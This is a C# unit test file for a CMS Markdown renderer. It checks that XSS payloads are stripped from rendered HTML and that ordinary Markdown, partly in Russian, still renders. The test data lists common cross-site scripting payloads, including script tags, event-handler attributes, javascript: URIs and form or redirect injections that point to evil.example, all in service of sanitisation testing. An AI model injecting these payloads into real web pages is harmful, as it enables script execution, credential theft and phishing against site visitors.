using Ratro.Knowledge.Web.Cms;
using Ratro.Knowledge.Web.Tests.Support;

namespace Ratro.Knowledge.Web.Tests.Cms;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer renderer = new();

    /// <summary>Markdown an attacker might write, and a fragment that must not survive rendering.</summary>
    public static TheoryData<string, string> Attacks => new()
    {
        { "Hello <script>alert(1)</script>", "<script" },
        { "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example" },
        { "<img src=x onerror=alert(1)>", "onerror" },
        { "<a href=\"#\" onclick=\"steal()\">x</a>", "onclick" },
        { "[click](javascript:alert(1))", "javascript:" },
        { "<a href=\"jAvAsCrIpT:alert(1)\">x</a>", "alert(1)" },
        { "[x](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html" },
        { "<iframe src=\"https://evil.example\"></iframe>", "<iframe" },
        { "<div style=\"background:url(javascript:alert(1))\">x</div>", "style=" },
        { "<svg onload=alert(1)><circle/></svg>", "onload" },
        { "<form action=\"https://evil.example\"><input name=p></form>", "<form" },
        { "<object data=\"x.swf\"></object>", "<object" },
        { "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "refresh" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Dangerous_markup_never_reaches_the_html(string markdown, string forbidden)
    {
        var html = renderer.Render(markdown);

        Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("## Раздел", "<h2>Раздел</h2>")]
    [InlineData("**важно**", "<strong>важно</strong>")]
    [InlineData("[НРБ](https://example.org/nrb)", "<a href=\"https://example.org/nrb\">НРБ</a>")]
    [InlineData("[почта](mailto:info@example.org)", "<a href=\"mailto:info@example.org\">почта</a>")]
    [InlineData("| A | B |\n|---|---|\n| 1 | 2 |", "<td>1</td>")]
    [InlineData("- один\n- два", "<li>два</li>")]
    public void Ordinary_markdown_is_kept(string markdown, string expected)
    {
        Assert.Contains(expected, renderer.Render(markdown), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_in_a_published_item_is_not_in_the_public_page()
    {
        await using var site = new SiteFactory();
        await Content.CreateAsync(site, ContentType.News, "xss", "ru", "Проверка", "Текст <script>alert('x')</script> и <img src=x onerror=alert(2)> конец.");

        using var response = await site.CreateClient().GetAsync("/news/xss", SiteClient.Cancel);
        var html = await response.Content.ReadAsStringAsync(SiteClient.Cancel);

        Assert.Contains("Текст", html, StringComparison.Ordinal);
        Assert.DoesNotContain("alert(", html, StringComparison.Ordinal);
        Assert.DoesNotContain("onerror", html, StringComparison.Ordinal);
    }
}
